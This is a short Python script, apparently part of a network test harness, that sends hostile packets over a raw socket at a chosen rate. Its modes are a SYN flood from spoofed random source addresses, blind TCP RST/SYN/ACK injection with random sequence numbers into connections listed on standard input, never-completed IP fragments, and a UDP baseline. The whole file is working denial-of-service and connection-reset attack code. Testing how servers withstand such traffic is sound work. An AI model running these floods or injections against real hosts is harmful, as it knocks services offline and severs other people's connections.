#!/usr/bin/python3
"""Sends hostile packets from the client's namespace: flood.py KIND HOST PORT PER_SECOND SECONDS

  syn    SYNs from random addresses and ports (the server's gateway must be this side)
  udp    datagrams of the same size to a closed port: what a flood costs this machine, without the attack
  blind  RST, SYN and ACK segments with random sequence numbers into the connections named on standard input, as
         lines "PORT" (the client's)
  frag   first fragments that never become whole
"""
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ip(src, dst, proto, payload, frag=0):
    # the kernel fills in the identification and the header checksum of a raw socket
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), frag, 64, proto, 0, src,
                       dst) + payload


def tcp(src, dst, sport, dport, seq, ack, flags):
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def packets(kind, dst, port, own, ports):
    rnd = random.getrandbits
    if kind == "udp":
        return ip(own, dst, 17, struct.pack("!HHHH", rnd(16), 9, 20, 0) + b"\0" * 12)
    if kind == "frag":
        return ip(own, dst, 6, os.urandom(64), 0x2000)
    if kind == "blind":
        flags = random.choice([0x04, 0x02, 0x10, 0x14, 0x11])
        return ip(own, dst, 6, tcp(own, dst, random.choice(ports), port, rnd(32), rnd(32), flags))
    src = struct.pack("!BBBB", 172, 16 + rnd(4), rnd(8), rnd(8))
    return ip(src, dst, 6, tcp(src, dst, 1024 + rnd(15), port, rnd(32), 0, 0x02))


def main():
    kind, host, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    dst = socket.inet_aton(host)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((host, port))
    own = socket.inet_aton(probe.getsockname()[0])
    ports = [int(line) for line in sys.stdin] if kind == "blind" else []
    ready = [packets(kind, dst, port, own, ports) for _ in range(20000)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        for _ in range(min(200, int(now * rate) - sent)):
            s.sendto(ready[sent % len(ready)], (host, 0))
            sent += 1
        if sent >= now * rate:
            time.sleep(0.0005)
    print(sent)


main()
